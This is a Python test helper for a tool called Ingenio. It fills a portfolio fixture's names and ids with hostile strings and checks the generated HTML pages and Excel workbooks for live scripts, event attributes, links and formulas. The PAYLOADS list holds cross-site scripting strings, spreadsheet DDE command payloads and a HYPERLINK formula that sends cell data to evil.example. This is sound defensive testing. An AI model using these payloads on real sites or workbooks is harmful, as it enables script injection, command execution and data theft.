"""Hostile text through a portfolio's names and ids, and checks of what Ingenio writes.

Shared by the HTML, Excel and path tests and the property test (issue 15): a copy of
``fixtures/small.yaml`` whose ids and names are replaced, the pages parsed with the
standard library and the workbooks read with openpyxl.
"""

from __future__ import annotations

import copy
import re
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from io import BytesIO
from pathlib import Path
from typing import Any

import yaml
from openpyxl import load_workbook

SMALL = Path(__file__).parent / "fixtures" / "small.yaml"

PAYLOADS = (
    "</script><script>alert(1337)</script>",
    '"><img src=x onerror=alert(1337)>',
    "'><svg onload=alert(1337)>",
    '=HYPERLINK("http://evil.example/?q="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    # tab, CR and U+2028/9 prefixes are refused by `validate` (control characters, issue 15
    # item 5), so they can never reach a report from a portfolio file
    "==1+1",
    "[/bold][link=http://x]hidden[/link]",
    "<a href=javascript:alert(1337)>x</a>",
    "--></script><!--",
)

ALLOWED_TAGS = frozenset(
    "html head meta title style script body h1 h2 h3 div b small nav a table thead tbody "
    "tr th td ul li p".split()
)
DERIVED_ID = re.compile(r"[A-Za-z][A-Za-z0-9_-]*")


def small_doc() -> dict[str, Any]:
    """``fixtures/small.yaml`` as plain data."""
    doc: dict[str, Any] = yaml.safe_load(SMALL.read_text(encoding="utf-8"))
    return doc


def _ids(node: object) -> Iterator[str]:
    if isinstance(node, dict):
        if isinstance(node.get("id"), str):
            yield node["id"]
        for value in node.values():
            yield from _ids(value)
    elif isinstance(node, list):
        for value in node:
            yield from _ids(value)


def _walk(node: object, ids: dict[str, str], name: Callable[[str], str]) -> object:
    if isinstance(node, dict):
        out: dict[object, object] = {}
        for key, value in node.items():
            new_key = ids.get(key, key) if isinstance(key, str) else key
            if key == "name" and isinstance(value, str):
                out[new_key] = name(value)
            else:
                out[new_key] = _walk(value, ids, name)
        return out
    if isinstance(node, list):
        return [_walk(v, ids, name) for v in node]
    if isinstance(node, str):
        return ids.get(node, node)
    return node


def hostile_doc(
    id_of: Callable[[int, str], str], name_of: Callable[[str], str], rename_portfolio: bool = True
) -> dict[str, Any]:
    """``small.yaml`` with id number ``i`` (``old``) renamed ``id_of(i, old)``, every
    reference with it, and every ``name`` ``n`` renamed ``name_of(n)``."""
    doc = copy.deepcopy(small_doc())
    old = list(dict.fromkeys(_ids(doc)))
    ids = {o: id_of(i, o) for i, o in enumerate(old)}
    new: dict[str, Any] = _walk(doc, ids, name_of)  # type: ignore[assignment]
    if not rename_portfolio:
        new["name"] = doc["name"]
    return new


def payload_doc() -> dict[str, Any]:
    """Every id and name carries one of :data:`PAYLOADS` (ids stay distinct); the plant
    ids the script-closing ones (they became chart element ids)."""
    first = {"P1": PAYLOADS[0], "P2": PAYLOADS[1]}
    return hostile_doc(
        lambda i, old: f"{first.get(old, PAYLOADS[i % len(PAYLOADS)])}{old}",
        lambda n: f"{PAYLOADS[len(n) % len(PAYLOADS)]}{n}",
    )


class Page(HTMLParser):
    """What a browser would run or follow in a page: scripts, tags, attributes, text."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.scripts: list[str] = []
        self.tags: list[str] = []
        self.attrs: list[tuple[str, str, str | None]] = []
        self.text: list[str] = []
        self._in: str | None = None
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attrs.extend((tag, k, v) for k, v in attrs)
        self._in = tag
        if tag == "script":
            self.scripts.append("")

    def handle_endtag(self, tag: str) -> None:
        self._in = None

    def handle_data(self, data: str) -> None:
        if self._in == "script":
            self.scripts[-1] += data
        elif self._in != "style":
            self.text.append(data)


def live_script_problems(html: str) -> list[str]:
    """Every way the page could run text from a file, as messages (empty: none).

    The page's first script is plotly.js; every other script must be one figure's
    ``Plotly.newPlot`` call with no ``<`` in it (plotly escapes its JSON); tags are
    only those Ingenio writes; no event attribute; ids and links are derived ids.
    """
    page = Page(html)
    problems: list[str] = []
    problems += [f"tag <{t}>" for t in page.tags if t not in ALLOWED_TAGS]
    problems += [f"event attribute {k}={v!r} on <{t}>" for t, k, v in page.attrs
                 if k.lower().startswith("on")]  # fmt: skip
    for t, k, v in page.attrs:
        if k == "id" and not DERIVED_ID.fullmatch(v or ""):
            problems.append(f"id {v!r} on <{t}> is not a derived id")
        href = v or ""
        if k == "href" and not (href.startswith("#") and DERIVED_ID.fullmatch(href[1:])):
            problems.append(f"href {v!r}")
    for script in page.scripts[1:]:
        if "Plotly.newPlot(" not in script:
            problems.append(f"script that is not a figure: {script[:80]!r}")
        if "<" in script or "\u2028" in script or "\u2029" in script:
            problems.append(f"unescaped < or line separator in a figure script: {script[:80]!r}")
    return problems


def page_text(html: str) -> str:
    """The text a reader sees (entities decoded), without scripts and styles."""
    return "".join(Page(html).text)


def formula_cells(data: bytes) -> list[str]:
    """Every cell of every sheet of the workbook that is a formula, as ``sheet!cell``."""
    wb = load_workbook(BytesIO(data))
    return [f"{ws.title}!{c.coordinate}: {c.value!r}" for ws in wb.worksheets
            for row in ws.iter_rows() for c in row if c.data_type == "f"]  # fmt: skip


def cell_texts(data: bytes) -> set[str]:
    """Every text cell's value, over all sheets."""
    wb = load_workbook(BytesIO(data))
    return {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if isinstance(c.value, str)}  # fmt: skip


def files_under(folder: Path) -> list[Path]:
    """Every file below ``folder``, recursively."""
    return sorted(p for p in folder.rglob("*") if p.is_file())
